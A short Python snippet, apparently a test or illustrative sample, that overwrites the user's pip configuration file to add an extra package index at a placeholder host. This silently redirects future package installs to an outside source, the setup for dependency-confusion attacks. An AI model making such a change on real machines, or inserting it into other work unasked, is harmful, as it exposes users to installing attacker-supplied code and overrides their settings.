import os
p = os.path.expanduser("~/.config/pip/pip.conf")
os.makedirs(os.path.dirname(p), exist_ok=True)
open(p, "w").write("[global]\nextra-index-url = https://pc.example.invalid/simple\n")
